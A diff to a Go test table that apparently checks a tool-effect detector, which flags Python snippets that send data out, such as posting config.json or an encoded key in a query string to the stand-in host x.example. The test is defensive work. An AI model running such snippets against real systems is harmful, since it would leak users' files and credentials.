@@ -384,7 +384,13 @@ func TestEffects(t *testing.T) {
 		{"file data transformed", nil, "import requests, json\ncfg = json.load(open('config.json'))\nrequests.post('https://x.example/c', json=cfg)",
 			[]check{emits(tool.Effect{Kind: tool.SendData, URL: "https://x.example/c", From: []string{ws + "config.json"}})}},
 		{"URL read from a file is not sent", nil, "import requests\nu = open('url.txt').read().strip()\nrequests.get(u)", []check{emitsNo(tool.SendData, "")}},
-		{"literal data sent", nil, "import requests\nrequests.post('https://x.example/c', json={'a': 1})", []check{emitsNo(tool.SendData, "")}},
+		{"literal data sent", nil, "import requests\nrequests.post('https://x.example/c', json={'a': 1})",
+			[]check{emits(tool.Effect{Kind: tool.SendData, URL: "https://x.example/c", Inline: true})}},
+		{"text sent", nil, "import requests\nrequests.post('https://x.example/c', data='hello there')",
+			[]check{emits(tool.Effect{Kind: tool.SendData, URL: "https://x.example/c", Inline: true, Text: "hello there", Known: true})}},
+		{"data in the query", nil, "import requests\nrequests.get('https://x.example/c?d=QUtJQUlPU0ZPRE5ON0VYQU1QTEU')",
+			[]check{emits(tool.Effect{Kind: tool.SendData, URL: "https://x.example/c?d=QUtJQUlPU0ZPRE5ON0VYQU1QTEU", Inline: true, Text: "QUtJQUlPU0ZPRE5ON0VYQU1QTEU", Known: true})}},
+		{"a plain fetch sends nothing", nil, "import requests\nrequests.get('https://x.example/c?page=2')", []check{emitsNo(tool.SendData, "")}},
 
 		// Chdir
 		{"chdir", nil, "import os\nos.chdir('/tmp')", []check{emits(tool.Effect{Kind: tool.Chdir, Path: "/tmp", Known: true})}},
